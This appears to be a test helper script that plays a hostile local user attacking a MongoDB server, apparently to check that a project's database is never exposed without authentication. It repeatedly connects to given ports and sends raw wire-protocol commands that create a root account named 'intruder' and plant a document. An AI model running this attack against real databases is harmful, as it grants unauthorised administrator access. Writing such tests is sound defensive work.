"""A program of another user of the machine: it tries to make itself an administrator as soon as a server listens.

It reads ports from its input, one per line, and attacks each port without a pause until the port answers. Then it writes
the port and the results. A real attacker reads the ports in `/proc/net/tcp`; this one attacks no other programs.
"""

from __future__ import annotations

import socket
import struct
import sys
from typing import Any

import bson

ATTACKS: tuple[dict[str, Any], ...] = (
    {"createUser": "intruder", "pwd": "intruder", "roles": ["root"], "$db": "admin"},
    {"insert": "planted", "documents": [{"_id": 1}], "$db": "threadkeep"},
)


def ask(port: int, command: dict[str, Any]) -> dict[str, Any]:
    """Return the answer of a MongoDB server to a command."""
    body = b"\0\0\0\0\0" + bson.encode(command)
    with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
        connection.sendall(struct.pack("<iiii", 16 + len(body), 1, 0, 2013) + body)
        reply = connection.makefile("rb")
        size = struct.unpack("<i", reply.read(4))[0]
        return bson.decode(reply.read(size - 4)[17:])


def attack(port: int) -> str:
    """Return the results of the attacks on one port: `made` for each that succeeded, else its error."""
    results = []
    for command in ATTACKS:
        try:
            answer = ask(port, command)
        except (OSError, struct.error, bson.errors.InvalidBSON):
            return ""  # no MongoDB server, or a server that is stopping
        results.append("made" if answer.get("ok") else str(answer.get("errmsg")))
    return "; ".join(results)


def report(text: str) -> None:
    """Write a line to the test."""
    sys.stdout.write(f"{text}\n")
    sys.stdout.flush()


def main() -> None:
    """Attack one port after the other."""
    report("ready")
    for line in sys.stdin:
        port = int(line)
        while not (results := attack(port)):
            pass
        report(f"{port} {results}")


if __name__ == "__main__":
    main()
